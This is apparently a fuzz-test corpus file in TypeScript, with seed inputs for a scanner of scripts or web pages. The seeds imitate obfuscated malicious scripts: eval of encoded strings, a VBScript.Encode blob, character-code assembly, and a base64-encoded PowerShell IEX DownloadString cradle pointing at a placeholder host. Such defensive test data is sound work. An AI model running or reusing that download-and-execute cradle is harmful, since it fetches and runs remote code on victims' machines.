import { fuzzStatic } from './_static.ts';

/** Any bytes as a script or a page. */
export const fuzz = fuzzStatic;

export const corpus = (): Uint8Array[] =>
  [
    '<html><script>eval(unescape("%68%74%74%70%3a%2f%2f"))</script><a href="http://a.example/">b.example</a></html>',
    '<job><script language="VBScript.Encode">#@~^DgAAAA==\\ko$K6,JC\x7fV^GJqAQAAA==^#~@</script></job>',
    '#@~^DgAAAA==\\ko$K6,JC\x7fV^GJqAQAAA==^#~@',
    '<script>x = Chr(104) & Chr(116) & Chr(116) & Chr(112); "\\x68\\x74\\x74\\x70\\x3a\\x2f"; String.fromCharCode(104,105,106,107)</script>',
    `<script>powershell -enc ${Buffer.from('IEX (New-Object Net.WebClient).DownloadString("http://a.example/")', 'utf16le').toString('base64')}</script>`,
  ].map((text) => Buffer.from(text));
